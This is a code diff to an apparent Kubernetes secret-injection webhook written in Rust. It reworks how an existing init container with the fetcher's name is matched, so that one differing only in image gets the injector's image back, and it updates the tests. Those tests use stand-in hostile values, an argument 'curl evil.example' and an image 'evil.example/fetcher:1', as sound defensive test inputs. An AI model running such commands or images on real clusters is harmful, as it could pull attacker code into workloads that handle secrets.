@@ -250,9 +250,16 @@ impl Fetch {
     /// patch is applied, before it calls the webhook again (the defaults of
     /// `terminationMessagePath`, `terminationMessagePolicy` and `imagePullPolicy`, resources in
     /// canonical quantities), is not compared; nor what a policy engine's webhook may change
-    /// in between (a digest, restrictions). A pod's own container under our name (its own
-    /// image, say) is not ours, whatever it runs.
+    /// in between (a digest, restrictions).
     fn is_done_by(c: &Container, ours: &Container, images: &[String]) -> bool {
+        c.image
+            .as_ref()
+            .is_some_and(|i| images.iter().any(|o| is_ours_or_pinned(i, o)))
+            && Self::runs_as(c, ours)
+    }
+
+    /// [`Fetch::is_done_by`] but for the image.
+    fn runs_as(c: &Container, ours: &Container) -> bool {
         let bare = |c: &Container| Container {
             env: None,
             volume_mounts: None,
@@ -269,10 +276,7 @@ impl Fetch {
                 .flatten()
                 .all(|x| theirs.iter().flatten().any(|y| y == x))
         }
-        c.image
-            .as_ref()
-            .is_some_and(|i| images.iter().any(|o| is_ours_or_pinned(i, o)))
-            && bare(c) == bare(ours)
+        bare(c) == bare(ours)
             && only_tightens(c.security_context.as_ref(), ours.security_context.as_ref())
             && has_all(&c.env, &ours.env)
             && has_all(&c.volume_mounts, &ours.volume_mounts)
@@ -438,25 +442,20 @@ impl SecretInjector for SidecarInjector {
             }
             found => found.is_some(),
         };
-        let existing = pod
-            .spec
-            .as_ref()
-            .and_then(|spec| spec.init_containers.as_ref())
-            .into_iter()
-            .flatten()
-            .find(|c| c.name == name);
-        let present = match existing {
-            Some(c) if !Fetch::is_done_by(c, &self.fetcher(name.clone(), &fetch), &self.images) => {
+        let ours = self.fetcher(name.clone(), &fetch);
+        let spec = pod.spec.get_or_insert_with(Default::default);
+        let inits = spec.init_containers.get_or_insert_with(Vec::new);
+        match inits.iter_mut().find(|c| c.name == name) {
+            Some(c) if Fetch::is_done_by(c, &ours, &self.images) => {}
+            // Ours but for the image: a previous configuration's `sidecarImage`, when a rollout
+            // that changes it splits an admission's two calls. It runs ours again.
+            Some(c) if Fetch::runs_as(c, &ours) => c.image = ours.image,
+            Some(_) => {
                 return Err(Refusal::Conflict(format!(
-                    "init container {name} already exists and is not the fetcher podmutator injects for this secret (its image, command or settings differ); remove or rename that init container"
+                    "init container {name} already exists and is not the fetcher podmutator injects for this secret (its command or settings differ); remove or rename that init container"
                 )));
             }
-            existing => existing.is_some(),
-        };
-        let spec = pod.spec.get_or_insert_with(Default::default);
-        if !present {
-            let inits = spec.init_containers.get_or_insert_with(Vec::new);
-            inits.push(self.fetcher(name, &fetch));
+            None => inits.push(ours),
         }
         // Looked for before the clone: `add_volume` would find it too, after cloning it.
         if !has_volume {
@@ -1067,23 +1066,22 @@ mod tests {
         assert_eq!(
             err,
             format!(
-                "init container {name} already exists and is not the fetcher podmutator injects for this secret (its image, command or settings differ); remove or rename that init container"
+                "init container {name} already exists and is not the fetcher podmutator injects for this secret (its command or settings differ); remove or rename that init container"
             )
         );
     }
 
-    /// A pod's own init container under the fetcher's name, running the fetcher's command in
-    /// an image of its own (or with anything else changed), is refused, not taken for ours.
+    /// A pod's own init container under the fetcher's name that runs something else than
+    /// ours (other args, a looser security context) is refused, not taken for ours.
     #[rstest]
-    fn a_pod_supplied_fetcher_with_our_name_and_command_but_its_own_image_is_refused(
+    fn a_pod_supplied_fetcher_with_our_name_that_runs_something_else_is_refused(
         #[values(Provider::Aws, Provider::Gcp, Provider::Azure)] provider: Provider,
-        #[values("image", "args", "privileged")] changed: &str,
+        #[values("args", "privileged")] changed: &str,
     ) {
         let s = any_secret(provider, 1);
         let ours = fetcher_of(provider, &s);
         let mut theirs = ours.clone();
         match changed {
-            "image" => theirs.image = Some("evil.example/fetcher:1".into()),
             "args" => theirs.args = Some(vec!["curl evil.example".into()]),
             _ => {
                 theirs.security_context = Some(k8s_openapi::api::core::v1::SecurityContext {
@@ -1104,6 +1102,30 @@ mod tests {
         inits_of(&mut pod).pop();
         inits_of(&mut pod).push(ours);
         run(&injector(provider), &s, pod).unwrap();
+    }
+
+    /// Ours in every way but its image (a previous configuration's `sidecarImage`, when a
+    /// rollout that changes it splits an admission's two calls, or a pod's copy of ours in an
+    /// image of its own): it gets our image back and runs ours, and nothing else changes.
+    #[rstest]
+    fn our_fetcher_in_another_image_runs_ours_again(
+        #[values(Provider::Aws, Provider::Gcp, Provider::Azure)] provider: Provider,
+    ) {
+        let s = any_secret(provider, 1);
+        let ours = fetcher_of(provider, &s);
+        let with = |image: &str| {
+            let mut pod = user_pod();
+            let mut fetcher = ours.clone();
+            fetcher.image = Some(image.into());
+            inits_of(&mut pod).push(fetcher);
+            run(&injector(provider), &s, pod)
+        };
+        let again = with(ours.image.as_deref().unwrap()).unwrap();
+        assert_eq!(with("evil.example/fetcher:1").unwrap(), again);
+        let fetchers: Vec<_> = (again.spec.unwrap().init_containers.unwrap().into_iter())
+            .filter(|c| c.name == ours.name)
+            .collect();
+        assert_eq!(fetchers, [ours]);
     }
 
     /// Ours after a policy engine pinned its image to a digest and tightened its security
